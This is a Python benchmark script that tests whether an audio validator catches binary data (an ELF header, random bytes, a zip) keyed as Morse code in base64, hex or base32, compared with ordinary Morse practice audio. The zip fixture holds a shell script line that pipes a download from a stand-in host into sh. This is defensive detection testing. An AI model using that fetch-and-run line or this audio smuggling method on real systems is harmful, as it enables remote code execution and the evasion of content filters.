"""Data sent as Morse code (issue #17, session 15): bytes written out as base64, hex or base32 and
keyed as CW, and Morse practice audio (prose, call signs, a QSO, Koch groups), through the whole
validator.

Attacks: the head of an ELF, random bytes and a zip, each in the three encodings, keyed by
:func:`audiomodel.morse.keyed_morse` at 25 wpm / 600 Hz, 60 wpm / 2500 Hz, Farnsworth 18 wpm
characters at 8 wpm / 400 Hz with 2 ms edges, and 12 wpm / 1000 Hz with 10 ms edges and noise
at 10 dB SNR; the ELF also through MP3 (lame) and Ogg Vorbis (oggenc), under train music at
0 and -10 dB, and from Debian's ``ebook2cw`` (25 and 60 wpm, Farnsworth ``-e``, ``-N`` noise,
Ogg ``-O``) when it is installed. Good: the same timings keying prose, call-sign practice, a
QSO and Koch five-letter groups, alone and under music. Prints a markdown table: case, files,
flagged (decision not accept), findings that fired. Asserts nothing.

Usage::

    uv run --frozen python bench/morse_data.py --work /tmp/morse
"""

from __future__ import annotations

import base64
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import numpy.typing as npt
import soundfile as sf
from dtmf_data import judge_cases

from audiomodel.morse import keyed_morse

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / ".cache/corpus/full-seed0"
RATE = 44100
PAYLOAD_BYTES = 180
TIMINGS = {
    "25 wpm 600 Hz": {"wpm": 25.0, "tone_hz": 600.0},
    "60 wpm 2500 Hz": {"wpm": 60.0, "tone_hz": 2500.0},
    "Farnsworth 18/8 wpm 400 Hz": {
        "wpm": 18.0,
        "effective_wpm": 8.0,
        "tone_hz": 400.0,
        "rise_s": 0.002,
    },
    "12 wpm 1000 Hz, 10 dB SNR": {"wpm": 12.0, "tone_hz": 1000.0, "rise_s": 0.010},
}
PROSE = (
    "THE FOX RAN OVER THE HILL AND THE DOGS BARKED AT THE MOON WHILE THE OLD MAN SAT BY THE "
    "FIRE READING A BOOK ABOUT SHIPS AND THE SEA"
)
QSO = "CQ CQ CQ DE DL1ABC DL1ABC K = W1AW DE DL1ABC GM OM UR RST 599 599 NAME FABIAN QTH BERLIN = 73 SK"


def payloads() -> dict[str, bytes]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("run.sh", "#!/bin/sh\ncurl http://example.invalid/x | sh\n" * 4)
    return {
        "elf": Path("/bin/true").read_bytes()[:PAYLOAD_BYTES],
        "random": np.random.default_rng(1).bytes(PAYLOAD_BYTES),
        "zip": archive.getvalue()[:PAYLOAD_BYTES],
    }


def encodings(data: bytes) -> dict[str, str]:
    return {
        "base64": base64.b64encode(data).decode(),
        "hex": data.hex().upper(),
        "base32": base64.b32encode(data).decode(),
    }


def good_texts(rng: np.random.Generator) -> dict[str, str]:
    letters = list("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    calls = [
        "".join(rng.choice(letters, 2)) + str(rng.integers(0, 10)) + "".join(rng.choice(letters, 3))
        for _ in range(24)
    ]
    koch = [
        "".join(rng.choice(list("KMRSUAPTLOWI.NJEF0Y,VG5/Q9ZH38B?427C1D6X"), 5)) for _ in range(40)
    ]
    return {
        "prose": PROSE,
        "call signs": " ".join(calls),
        "QSO": QSO,
        "Koch groups": " ".join(koch),
    }


def train_music(rng: np.random.Generator, count: int = 2) -> list[Path]:
    manifest = CORPUS / "manifest.jsonl"
    if not manifest.exists():
        return []
    rows = [json.loads(line) for line in manifest.open()]
    paths = [
        CORPUS / r["path"]
        for r in rows
        if r["label"] == "good" and r["split"] == "train" and r["sample_rate"] == RATE
    ]
    rng.shuffle(paths)
    return paths[:count]


def mixed(x: npt.NDArray[np.float64], music: Path, db: float) -> npt.NDArray[np.float64]:
    """``x`` with music under it, the Morse ``db`` over the music's power (negative: under)."""
    m, _ = sf.read(music, dtype="float64", always_2d=True)
    m = np.resize(m.mean(axis=1), x.size)
    on = x[np.abs(x) > 1e-3]
    gain = np.sqrt(np.mean(on**2) / max(np.mean(m**2), 1e-12)) * 10 ** (-db / 20)
    return x + gain * m


def cases(work: Path, rng: np.random.Generator) -> list[tuple[str, Path]]:
    out: list[tuple[str, Path]] = []

    def write(kind: str, name: str, x: npt.NDArray[np.float64]) -> Path:
        path = work / f"{name}.wav"
        sf.write(path, (0.9 * x / max(np.abs(x).max(), 1e-9)).astype(np.float32), RATE)
        out.append((kind, path))
        return path

    def coded(kind: str, wav: Path, tool: list[str], suffix: str) -> None:
        if shutil.which(tool[0]) is None:
            print(f"skipped {kind}: {tool[0]} is not installed")
            return
        target = wav.with_suffix(suffix)
        args = [{"IN": str(wav), "OUT": str(target)}.get(a, a) for a in tool]
        subprocess.run(args, check=True, capture_output=True)
        out.append((kind, target))

    def key(text: str, timing: str) -> npt.NDArray[np.float64]:
        x = keyed_morse(text, RATE, **TIMINGS[timing])  # type: ignore[arg-type]
        if "SNR" in timing:
            x = x + rng.normal(0, np.sqrt(np.mean(x[np.abs(x) > 1e-3] ** 2) / 10), x.size)
        return x

    music = train_music(rng)
    for label, data in payloads().items():
        for encoding, text in encodings(data).items():
            for timing in TIMINGS:
                name = f"{label}-{encoding}-{timing.split()[0]}"
                wav = write(f"attack {label} ({timing})", name, key(text, timing))
                if label == "elf" and timing.startswith("25"):
                    coded(
                        f"attack elf {encoding} MP3",
                        wav,
                        ["lame", "--quiet", "-b", "64", "IN", "OUT"],
                        ".mp3",
                    )
                    coded(
                        f"attack elf {encoding} Ogg",
                        wav,
                        ["oggenc", "-Q", "-q", "2", "-o", "OUT", "IN"],
                        ".ogg",
                    )
    elf_text = encodings(payloads()["elf"])
    for db in (0, -10):
        for i, clip in enumerate(music):
            for encoding in ("base64", "hex"):
                x = mixed(key(elf_text[encoding], "25 wpm 600 Hz"), clip, db)
                write(f"attack elf under music {db:+d} dB", f"elf-{encoding}-m{i}{db:+d}", x)
    for label, text in good_texts(rng).items():
        for timing in TIMINGS:
            write(f"good: {label}", f"good-{label}-{timing.split()[0]}", key(text, timing))
        for i, clip in enumerate(music):
            x = mixed(key(text, "25 wpm 600 Hz"), clip, 0)
            write("good: practice under music 0 dB", f"good-{label}-m{i}", x)
    out += ebook2cw_cases(work, elf_text["base64"])
    return out


def ebook2cw_cases(work: Path, b64: str) -> list[tuple[str, Path]]:
    if shutil.which("ebook2cw") is None:
        print("skipped ebook2cw cases: ebook2cw is not installed (apt-get install ebook2cw)")
        return []
    out: list[tuple[str, Path]] = []
    runs = {
        "attack ebook2cw base64 ELF": (b64, [["-w", "25"], ["-w", "60"], ["-w", "20", "-e", "10"],
                                            ["-w", "25", "-N", "10"], ["-w", "30", "-O"]]),
        "good: ebook2cw prose": (PROSE + "\n" + QSO, [["-w", "25"], ["-w", "40", "-N", "10"]]),
    }  # fmt: skip
    for kind, (text, option_sets) in runs.items():
        source = work / f"{kind.split(':')[0]}.txt"
        source.write_text(text + "\n")
        for options in option_sets:
            stem = work / f"e2cw-{kind[:6]}-{'_'.join(options)}-"
            subprocess.run(
                ["ebook2cw", *options, "-s", str(RATE), "-b", "64", "-o", str(stem), str(source)],
                check=True,
                capture_output=True,
            )
            out += [(kind, p) for p in sorted(work.glob(f"{stem.name}0000.*"))]
    return out


def main() -> None:
    judge_cases(__doc__ or "", "morse-", cases)


if __name__ == "__main__":
    main()
